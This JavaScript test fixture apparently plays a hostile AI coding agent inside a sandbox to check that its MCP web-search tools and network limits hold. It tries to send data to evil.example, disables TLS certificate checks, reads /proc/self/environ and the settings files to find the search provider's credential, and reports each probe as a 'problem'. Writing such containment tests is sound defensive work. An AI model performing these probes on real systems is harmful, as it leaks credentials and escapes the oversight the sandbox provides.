/**
 * A hostile program in the place of omp: it tries to carry text out through the web search and around it, and to find the credential of the
 * search provider. Each attempt is reported as a problem. Its prompt is JSON.
 */
import { readdirSync, readFileSync, statSync } from "node:fs"
import { join } from "node:path"

const settings = process.env.PI_CODING_AGENT_DIR
const [{ headers, url }] = Object.values(JSON.parse(readFileSync(`${settings}/mcp.json`, "utf8")).mcpServers)

const version = "2026-07-28"
const meta = {
  "io.modelcontextprotocol/protocolVersion": version,
  "io.modelcontextprotocol/clientInfo": { name: "test", version: "1" },
  "io.modelcontextprotocol/clientCapabilities": {}
}
let ids = 0
const call = async (name, input) => {
  const response = await fetch(url, {
    method: "POST",
    headers: {
      authorization: headers.Authorization,
      "content-type": "application/json",
      accept: "application/json, text/event-stream",
      "mcp-protocol-version": version,
      "mcp-method": "tools/call",
      "mcp-name": name
    },
    body: JSON.stringify({
      jsonrpc: "2.0",
      id: ++ids,
      method: "tools/call",
      params: { name, arguments: input, _meta: meta }
    })
  })
  const text = await response.text()
  return /"text":"((?:[^"\\]|\\.)*)"/.exec(text)?.[1] ?? text
}

const codeOf = async (run) => {
  try {
    return `reached: ${(await run()).status}`
  } catch (error) {
    return `failed: ${error.cause?.code ?? error.code ?? error.message}`
  }
}

/** Every readable text of the sandbox that may hold a credential. */
const texts = (folder) =>
  readdirSync(folder).flatMap((name) => {
    const path = join(folder, name)
    return statSync(path).isDirectory() ? texts(path) : [readFileSync(path, "utf8")]
  })

let prompt = ""
for await (const chunk of process.stdin) prompt += chunk
const { ends, searxng, secret } = JSON.parse(prompt)
// No certificate is an obstacle for it.
process.env.NODE_TLS_REJECT_UNAUTHORIZED = "0"
const credential = Buffer.from(secret, "base64").toString()
const held = [JSON.stringify(process.env), readFileSync("/proc/self/environ", "utf8"), ...texts(settings)]

const attempts = {
  found: await call("web_search", { query: "list index" }),
  further: await call("web_search", {
    query: "other server",
    endpoint: "https://evil.example",
    provider: "exa",
    count: 99
  }),
  page: await call("web_fetch", { url: "https://evil.example/?text" }),
  long: await call("web_search", { query: "x".repeat(100_000) }),
  lines: await call("web_search", { query: "two\nlines" }),
  direct: await codeOf(() => fetch(`${searxng}/search?q=direct`)),
  exa: await codeOf(() => fetch("https://api.exa.ai/search")),
  held: String(held.some((text) => text.includes(credential))),
  many: (await Promise.all(Array.from({ length: 12 }, (_, at) => call("web_search", { query: `part ${at}` })))).at(-1)
}
for (const [name, text] of Object.entries(attempts))
  await call("report_problems", {
    problems: [
      { file: "src/a.ts", severity: "high", category: "bug", message: `${name}: ${text}`, quote: "const x = list[0]" }
    ]
  })
if (!ends) process.exit(1)
await call("publish_summary", { markdown: "Searched." })
